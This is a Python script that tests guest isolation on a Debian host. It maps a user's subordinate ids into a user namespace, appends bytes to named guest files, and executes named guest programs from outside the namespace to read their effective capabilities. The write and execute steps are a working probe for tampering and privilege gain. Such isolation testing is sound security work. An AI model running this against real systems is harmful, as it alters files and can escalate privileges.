"""Tries to attack files of guests as the first user of a Debian host, who has the subordinate ids 100000 to 165535.

    first_user.py WRITE... -- EXECUTE...

Answers one line for each: "write PATH: yes" when bytes could be written into that file from the user's own namespace, and
"execute PATH: CAPABILITIES" with the effective capabilities of the program outside of it, or "no". Needs root, which
writes the maps of the namespace as `newuidmap` and `newgidmap` would.
"""

import array, ctypes, os, socket, sys

USER, FIRST, COUNT = 1000, 100000, 65536
CLONE_NEWUSER = 0x10000000
libc = ctypes.CDLL(None, use_errno=True)


def send(to, line, descriptors=()):
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", descriptors))] if descriptors else []
    to.sendmsg([line.encode()], rights)


def receive(source):
    line, rights, _, _ = source.recvmsg(4096, socket.CMSG_SPACE(4))
    descriptors = array.array("i")
    for _, _, data in rights:
        descriptors.frombytes(data)
    return line.decode(), list(descriptors)


def inside(to_root, to_user, writes, executes):
    """The process in the namespace of the user, with the first of the subordinate ids."""
    os.setgroups([])
    os.setresgid(USER, USER, USER)
    os.setresuid(USER, USER, USER)
    # A change of ids closes its files in /proc to others, and root has to write the maps.
    libc.prctl(4, 1, 0, 0, 0)
    if libc.unshare(CLONE_NEWUSER) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    send(to_root, "unshared")
    receive(to_root)
    os.setgroups([1])
    os.setresgid(1, 1, 1)
    os.setresuid(1, 1, 1)
    for path in writes:
        try:
            descriptor = os.open(path, os.O_WRONLY | os.O_APPEND)
            os.write(descriptor, b"changed")
            os.close(descriptor)
            print(f"write {path}: yes", flush=True)
        except OSError as error:
            print(f"write {path}: {error.strerror}", flush=True)
    for path in executes:
        try:
            # It may be opened from here and executed by the user outside.
            send(to_user, path, [os.open(path, os.O_PATH)])
        except OSError as error:
            print(f"execute {path}: no ({error.strerror})", flush=True)
    send(to_user, "end")


def outside(to_inside):
    os.setgroups([])
    os.setresgid(USER, USER, USER)
    os.setresuid(USER, USER, USER)
    while True:
        path, descriptors = receive(to_inside)
        if path == "end":
            return
        read, write = os.pipe()
        child = os.fork()
        if child == 0:
            os.dup2(write, 1)
            try:
                os.execve(descriptors[0], ["cat", "/proc/self/status"], {})
            except OSError:
                os._exit(1)
        os.close(write)
        status = os.fdopen(read).read()
        os.waitpid(child, 0)
        effective = [line.split()[1] for line in status.splitlines() if line.startswith("CapEff:")]
        print(f"execute {path}: {effective[0] if effective else 'no'}", flush=True)


def child(work):
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            work()
            code = 0
        finally:
            os._exit(code)
    return pid


def main():
    at = sys.argv.index("--")
    writes, executes = sys.argv[1:at], sys.argv[at + 1 :]
    root, to_root = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    user, to_user = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    one = child(lambda: inside(to_root, to_user, writes, executes))
    to_root.close()
    receive(root)
    for name in ["uid_map", "gid_map"]:
        with open(f"/proc/{one}/{name}", "w") as file:
            file.write(f"0 {USER} 1\n1 {FIRST} {COUNT}\n")
    send(root, "mapped")
    other = child(lambda: outside(user))
    codes = [os.waitpid(pid, 0)[1] for pid in (one, other)]
    sys.exit(any(codes))


main()
